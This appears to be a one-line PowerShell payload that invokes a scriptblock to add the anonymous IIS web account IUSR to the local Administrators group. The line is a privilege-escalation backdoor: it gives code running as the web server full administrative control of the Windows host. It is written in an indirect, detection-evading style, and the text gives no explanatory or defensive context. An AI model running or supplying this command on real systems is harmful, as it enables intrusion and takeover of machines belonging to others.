[scriptblock]::Create('Add-LocalGroupMember -Group Administrators -Member IUSR').Invoke()
